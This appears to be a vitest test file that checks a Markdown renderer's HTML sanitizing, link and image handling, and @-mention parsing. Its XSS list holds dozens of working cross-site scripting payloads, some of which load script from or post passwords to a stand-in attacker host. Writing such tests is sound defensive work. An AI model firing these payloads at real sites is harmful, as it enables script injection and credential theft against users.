import { describe, expect, test } from 'vitest';
import { readMarkdown, renderMarkdown } from './markdown.js';

/** Every tag and attribute that may appear, in the exact form in which the sanitizer writes it. */
const SAFE_TAG =
  /^<(\/?(p|br|hr|h[1-6]|blockquote|pre|code|ul|ol|li|em|strong|s|a|img|table|thead|tbody|tr|th|td)|a( (href="(https?:\/\/|mailto:)[^"<>]*"|title="[^"<>]*"|rel="nofollow ugc noopener"))*|img( (src="https:\/\/files\.example\/[^"<>]*"|alt="[^"<>]*"|loading="lazy"))*|code class="language-[\w+#-]+"|ol start="\d+"|t[hd] style="text-align:(left|right|center)")( \/)?>$/;

function unsafeTags(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !SAFE_TAG.test(tag));
}

const XSS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<form action="https://evil.example"><input name=password></form>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<style>@import "https://evil.example/x.css"</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<details open ontoggle=alert(1)>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](upload:1)',
  '[x](https://a.example "onmouseover=alert(1)")',
  '[x](https://a.example "\\" onmouseover=alert(1) \\"")',
  '[x](<javascript:alert(1)>)',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<https://a.example/"onmouseover="alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![" onerror="alert(1)](upload:1)',
  '![x](upload:1"onerror="alert(1))',
  '```"><script>alert(1)</script>\ncode\n```',
  '```js onmouseover=alert(1)\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '|a|\n|:-:|\n|<img src=x onerror=alert(1)>|',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'https://a.example/<script>alert(1)</script>',
];

describe('Markdown', () => {
  const image = (source: string) =>
    source.startsWith('upload:') ? `https://files.example/${source.slice('upload:'.length)}` : undefined;

  test.each(XSS)('renders %j without anything that runs or loads', (source) => {
    const html = renderMarkdown(source, { image });
    expect(unsafeTags(html), html).toEqual([]);
  });

  test('keeps structure: headings, lists, quotes, code, tables, emphasis', () => {
    expect(renderMarkdown('# A\n\n> b\n\n3. c\n\n**d** _e_ ~~f~~')).toBe(
      '<h1>A</h1>\n<blockquote>\n<p>b</p>\n</blockquote>\n<ol start="3">\n<li>c</li>\n</ol>\n<p><strong>d</strong> <em>e</em> <s>f</s></p>',
    );
    expect(renderMarkdown('```c++\nif (a < b) {}\n```')).toBe(
      '<pre><code class="language-c++">if (a &lt; b) {}\n</code></pre>',
    );
    expect(renderMarkdown('|a|\n|-:|\n|b|')).toContain('<td style="text-align:right">b</td>');
  });

  test('marks every link as written by a user', () => {
    const rel = 'rel="nofollow ugc noopener"';
    expect(renderMarkdown('[a](https://a.example "t")')).toBe(
      `<p><a href="https://a.example" title="t" ${rel}>a</a></p>`,
    );
    expect(renderMarkdown('see https://a.example/x?y=1&z=2')).toBe(
      `<p>see <a href="https://a.example/x?y=1&amp;z=2" ${rel}>https://a.example/x?y=1&amp;z=2</a></p>`,
    );
    expect(renderMarkdown('[m](mailto:a@b.example)')).toContain('href="mailto:a@b.example"');
  });

  test('shows images of own uploads only; of others the alternative text stays', () => {
    expect(renderMarkdown('![a cat](upload:7)', { image })).toBe(
      '<p><img src="https://files.example/7" alt="a cat" loading="lazy" /></p>',
    );
    expect(renderMarkdown('![a cat](https://evil.example/7)', { image })).toBe('<p>a cat</p>');
    expect(renderMarkdown('![a cat](upload:7)')).toBe('<p>a cat</p>');
  });

  test('survives deep nesting', () => {
    for (const mark of ['>', '- ', '[', '*', '`', '(', '![']) {
      expect(unsafeTags(renderMarkdown(mark.repeat(5_000)))).toEqual([]);
    }
  });
});

describe('what a text refers to', () => {
  const mentions = (source: string) => readMarkdown(source).mentions;

  test('handles are found in text, not in code, links, quotes, addresses and after a backslash', () => {
    expect(
      mentions(
        'Hi @Ana_Silva, `@bruno` \\@cleo [@dora](https://x.example) eva@fay.example **@gil** https://x.example/@zed\n\n> @hugo',
      ),
    ).toEqual(['ana_silva', 'gil']);
  });

  test.each([
    ['@ana, (@bruno)! @ana.', ['ana', 'bruno']],
    ['@Ana @ANA', ['ana']],
    ['@ab @c++ @' + 'x'.repeat(31), []],
    ['@ana-b and @bruno\u2019s', ['ana', 'bruno']],
    ['\u202E@ana 👍@bruno 日@cleo', ['ana', 'bruno']],
    ['- [ ] @ana\n\n| a |\n|---|\n| @bruno |', ['ana', 'bruno']],
    ['```\n@ana\n```\n\n    @bruno', []],
    ['>'.repeat(10_000) + ' @ana', []],
  ])('%j mentions %j', (source, handles) => {
    expect(mentions(source)).toEqual(handles);
  });

  test('links are counted, written out or named; images are none', () => {
    expect(readMarkdown('[a](https://a.example) https://b.example `https://c.example` ![d](upload:7)').links).toBe(2);
  });
});
